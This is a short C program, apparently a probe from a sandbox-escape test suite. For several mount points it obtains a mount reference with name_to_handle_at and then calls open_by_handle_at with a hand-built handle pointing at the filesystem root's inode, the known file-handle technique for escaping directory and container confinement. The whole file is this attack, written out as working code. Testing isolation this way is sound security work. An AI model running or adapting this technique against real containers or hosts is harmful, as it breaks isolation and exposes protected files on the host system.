#include "attack.h"

struct handle {
    unsigned bytes;
    int kind;
    unsigned char data[128];
};

// Any file of a file system by its number, past all directories.
int main(void) {
    struct handle handle = {.bytes = 128};
    int mount = 0;
    const char *starts[] = {"/usr", "/work", "/", "/proc"};
    for (int i = 0; i < 4; i++) {
        int directory = open(starts[i], O_RDONLY | O_DIRECTORY);
        handle.bytes = 128;
        TRY(name_to_handle_at, directory, "", &handle, &mount, AT_EMPTY_PATH);
        struct handle root = {.bytes = 8, .kind = 1, .data = {2, 0, 0, 0}};
        TRY(open_by_handle_at, directory, &root, O_RDONLY);
    }
}
